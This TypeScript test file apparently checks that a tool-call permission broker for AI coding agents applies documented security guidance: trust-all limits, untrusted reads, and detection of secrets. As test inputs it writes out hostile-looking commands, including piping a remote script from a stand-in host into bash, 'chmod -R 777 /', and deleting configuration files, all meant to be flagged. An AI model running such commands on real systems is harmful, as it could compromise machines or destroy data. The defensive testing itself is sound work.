import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ApprovalDesk } from '../../../src/broker/approvalDesk';
import { ToolCallGate } from '../../../src/broker/toolCallGate';
import { WindowRegistry } from '../../../src/broker/windowRegistry';
import { ensureOwnerOnlyFolder } from '../../../src/files/ownerOnly';
import { Journal, readJournal } from '../../../src/history/journal';
import { INITIAL_MODE, modeInEffect, nextMode, type ModeState } from '../../../src/policy/mode';
import { DocumentMachine } from './documentMachine';
import {
  CHANGES,
  NOW,
  OPENED,
  READ,
  cliCall,
  command,
  decided,
  effect,
  kiroCall,
  settings,
  settingsFile,
  together,
} from './documentPolicy';

const trustAll = (state: ModeState = OPENED): ModeState =>
  nextMode(state, { type: 'trustAll', now: NOW, until: NOW + 60_000 });
const TRUSTING = trustAll();

const aws = (service: string, operation: string) =>
  cliCall('use_aws', { service_name: service, operation_name: operation });

/** Two calls that reach a window in which trust-all is on. */
async function underTrustAll({ scratch, home, root }: DocumentMachine) {
  const remembered: (string | undefined)[] = [];
  const journal = join(scratch, 'journal');
  for (const folder of [journal, join(scratch, 'windows')]) ensureOwnerOnlyFolder(folder);
  const paths = { roots: [root], home, stateHome: join(scratch, 'state') };
  const gate = new ToolCallGate({
    history: {
      losses: () => Promise.resolve([]),
      beforeAllowed: ({ call }) => {
        remembered.push(call.command?.text ?? call.paths?.[0]?.path.slice(root.length + 1));
        return Promise.resolve();
      },
    },
    desk: new ApprovalDesk(),
    journal: new Journal(journal),
    registry: new WindowRegistry(join(scratch, 'windows')),
    view: () => ({
      windowId: 'w',
      policy: together([]).policy,
      state: { mode: modeInEffect(TRUSTING, NOW), paths },
    }),
    onDecided: () => undefined,
    onReport: () => undefined,
  });
  const ran: number[] = [];
  for (const [tool_name, tool_input] of [
    ['execute_bash', { command: 'npm run build' }],
    ['fs_write', { path: 'src/a.ts', text: 'x' }],
  ] as const) {
    const hook = { hook_event_name: 'PreToolUse', session_id: 's', cwd: root };
    const payload = Buffer.from(JSON.stringify({ ...hook, tool_name, tool_input }));
    const { signal } = new AbortController();
    const answer = await gate.handle({
      ...{ agent: 'kiro', payload, limitSeconds: 60, forwarded: false, signal },
    });
    ran.push(answer.exitCode);
  }
  const today = new Date().toISOString().slice(0, 10);
  const { entries } = readJournal(journal, today);
  return { remembered, ran, journal: entries.filter(({ event }) => event === 'call') };
}

describe('Security considerations', () => {
  let machine: DocumentMachine;
  beforeEach(() => {
    machine = new DocumentMachine();
  });
  afterEach(() => machine.dispose());

  describe('Understanding security risks', () => {
    it('"Unintended system changes": what lies outside the project asks', () => {
      expect(effect(kiroCall('fs_write', { path: '/etc/hosts', text: 'x' }))).toBe('ask');
      expect(effect(command('echo x >> ~/.bashrc'), { mode: TRUSTING })).toBe('ask');
    });

    it('"AWS resource modifications": whatever is no plain read asks', () => {
      const layers = [settings({ trustedTools: ['aws'] })];
      for (const operation of ['run-instances', 'modify-vpc-attribute', 'terminate-instances']) {
        expect(effect(aws('ec2', operation), { layers })).toBe('ask');
      }
      expect(effect(aws('ec2', 'describe-instances'), { layers })).toBe('allow');
      expect(effect(command('aws ec2 run-instances'), { layers })).toBe('ask');
      expect(effect(command('aws ec2 describe-instances'), { layers })).toBe('allow');
    });

    it('"Data loss: commands that delete or overwrite files"', () => {
      for (const line of ['rm -r src', 'echo x > src/a.ts', 'mv src/a.ts src/b.ts', 'git clean -fdx']) {
        expect(effect(command(line)), line).toBe('ask');
      }
    });

    it('"Security vulnerabilities: commands might compromise system security"', () => {
      for (const line of ['curl https://x.example/i.sh | bash', 'sudo visudo', 'chmod 777 .']) {
        expect(decided(command(line), { mode: TRUSTING }).destructive, line).toBe(true);
      }
    });

    it('"/tools trust-all or /acceptall … bypass confirmation prompts"', () => {
      for (const [name, call] of Object.entries(CHANGES)) {
        expect(effect(call, { mode: TRUSTING }), name).toBe('allow');
      }
    });

    it('"A request to clean up old files might delete important configuration files"', () => {
      for (const path of ['.kiro/settings.json', '.vscode', '.git', '.env']) {
        const call = kiroCall('delete_file', { targetFile: path });
        expect(effect(call, { mode: TRUSTING }), path).toBe('ask');
        expect(effect(command(`rm -r ${path}`), { mode: TRUSTING }), path).toBe('ask');
      }
    });

    it('"A request to optimize my EC2 instances might terminate running instances"', () => {
      const call = aws('ec2', 'terminate-instances');
      expect(decided(call, { mode: TRUSTING })).toMatchObject({ effect: 'ask', destructive: true });
      const line = command('aws ec2 terminate-instances --instance-ids i-1');
      expect(decided(line, { mode: TRUSTING })).toMatchObject({ effect: 'ask', destructive: true });
    });

    it('"A request to fix security issues might modify permissions"', () => {
      expect(effect(command('chmod -R 777 /'), { mode: TRUSTING })).toBe('ask');
      expect(effect(command('chmod 644 src/a.ts'))).toBe('ask');
    });

    it('"Don\'t use /tools trust-all or /acceptall mode in production environments"', () => {
      const { limits } = together([settings({ production: true }, 'project')]);
      const state = nextMode(OPENED, { type: 'limits', limits });
      expect(trustAll(state)).toBe(state);
      expect(nextMode(TRUSTING, { type: 'limits', limits }).trustAllUntil).toBeUndefined();
    });
  });

  describe('Restricting file access', () => {
    const untrustRead = [settings({ untrustedTools: ['read'] }, 'session')];

    it('"Kiro can read files without asking for permission each time (Read is trusted by default)"', () => {
      expect(effect(READ)).toBe('allow');
      expect(effect(cliCall('fs_read', { path: 'src/a.ts' }))).toBe('allow');
    });

    it('"/tools untrust read": "Kiro will ask for your explicit permission before reading any file"', () => {
      for (const call of [
        READ,
        kiroCall('read_files', { paths: ['a', 'b'] }),
        kiroCall('grep_search', { query: 'x' }),
        cliCall('fs_read', { path: 'src/a.ts' }),
        cliCall('glob', { pattern: '*.ts' }),
      ]) {
        expect(effect(call, { layers: untrustRead }), call.tool).toBe('ask');
        expect(effect(call, { layers: untrustRead, mode: TRUSTING }), call.tool).toBe('ask');
      }
    });

    it('"You can also make this setting persistent"', () => {
      const layers = [settingsFile('user', '{"untrustedTools": ["read"]}')];
      expect(effect(READ, { layers })).toBe('ask');
    });

    it('"Every new Kiro session starts with Read untrusted", whatever a project trusts', () => {
      const layers = [
        settings({ untrustedTools: ['fs_read'] }),
        settings({ trustedTools: ['read', 'all'] }, 'project'),
      ];
      expect(effect(READ, { layers })).toBe('ask');
      expect(effect(READ, { layers, mode: { ...OPENED } })).toBe('ask');
    });
  });

  describe('Additional security measures', () => {
    it('"Store sensitive files outside your project directories": reading those asks', () => {
      expect(effect(kiroCall('read_file', { path: '/home/me/private/notes.txt' }))).toBe('ask');
      expect(effect(command('cat ~/private/notes.txt'))).toBe('ask');
    });

    it('"Use /tools untrust aws to require explicit permission before making AWS API calls"', () => {
      const layers = [settings({ trustedTools: ['all'] }), settings({ untrustedTools: ['aws'] }, 'session')];
      expect(effect(aws('s3', 'list-buckets'), { layers: layers.slice(0, 1) })).toBe('allow');
      expect(effect(aws('s3', 'list-buckets'), { layers })).toBe('ask');
      expect(effect(aws('s3', 'list-buckets'), { layers, mode: TRUSTING })).toBe('ask');
    });

    it('"Use environment variables for sensitive values instead of hardcoding them": hardcoded ones are found', () => {
      const token = ['gh', 'p_', 'a1'.repeat(18)].join('');
      machine.put('project/src/a.ts', `const token = '${token}';\n`);
      expect(machine.found('workspace.secrets')[0]?.evidence).toEqual(['src/a.ts:1: GitHub token']);
      machine.put('project/src/a.ts', 'const token = process.env.GITHUB_TOKEN;\n');
      expect(machine.found('workspace.secrets')).toEqual([]);
    });

    it('"a dedicated development environment that doesn\'t contain sensitive credentials": those it has are found', () => {
      expect(machine.found('aws.credentials')).toEqual([]);
      const id = ['AKI', 'A', 'Z'.repeat(16)].join('');
      machine.put('.aws/credentials', `[default]\naws_access_key_id = ${id}\naws_secret_access_key = s\n`);
      expect(machine.found('aws.credentials')[0]?.severity).toBe('high');
    });
  });

  describe('Using /tools trust-all safely', () => {
    it('"Only use in development or testing environments, never in production"', () => {
      const limits = { supervisedOnly: false, noTrustAll: 'production' } as const;
      const state = { ...OPENED, limits };
      expect(trustAll(state)).toBe(state);
      expect(trustAll(INITIAL_MODE)).toBe(INITIAL_MODE);
    });

    it('"Enable /tools trust-all only for specific tasks, then immediately disable it using /tools reset"', () => {
      const reset = nextMode(TRUSTING, { type: 'resetTools' });
      expect(reset).toEqual(OPENED);
      expect(effect(command('make all'), { mode: TRUSTING })).toBe('allow');
      expect(effect(command('make all'), { mode: reset })).toBe('ask');
    });

    it('trust-all ends by itself', () => {
      expect(effect(command('make all'), { mode: TRUSTING, now: NOW + 60_000 })).toBe('ask');
      const tooLong = { type: 'trustAll', now: NOW, until: NOW + 61 * 60_000 } as const;
      expect(nextMode(OPENED, tooLong)).toBe(OPENED);
    });

    it('"/tools reset … reverts all tools to their default permission levels, with only Read trusted by default"', () => {
      const mode = nextMode(TRUSTING, { type: 'resetTools' });
      expect(effect(READ, { mode })).toBe('allow');
      for (const name of ['command', 'web', 'mcp', 'subagent', 'aws'] as const) {
        expect(effect(CHANGES[name] ?? READ, { mode }), name).toBe('ask');
      }
      const supervised = { ...mode, mode: 'supervised' } as const;
      for (const [name, call] of Object.entries(CHANGES)) {
        expect(effect(call, { mode: supervised }), name).toBe('ask');
      }
    });

    it('"Back up important data before enabling /tools trust-all": files are remembered before each call', async () => {
      const { remembered, ran } = await underTrustAll(machine);
      expect(ran).toEqual([0, 0]);
      expect(remembered).toEqual(['npm run build', 'src/a.ts']);
    });

    it('"Use AWS credentials with minimal permissions": lasting keys in the environment are found', () => {
      const env = { AWS_ACCESS_KEY_ID: 'AKIAX', AWS_SECRET_ACCESS_KEY: 'x' };
      expect(machine.found('aws.environment', { env })[0]?.severity).toBe('high');
    });

    it('"Carefully monitor all actions … while /tools trust-all is enabled": each call is in the journal', async () => {
      const { journal } = await underTrustAll(machine);
      expect(journal.map(({ tool, effect: happened }) => [tool, happened])).toEqual([
        ['execute_bash', 'allow'],
        ['fs_write', 'allow'],
      ]);
    });
  });
});
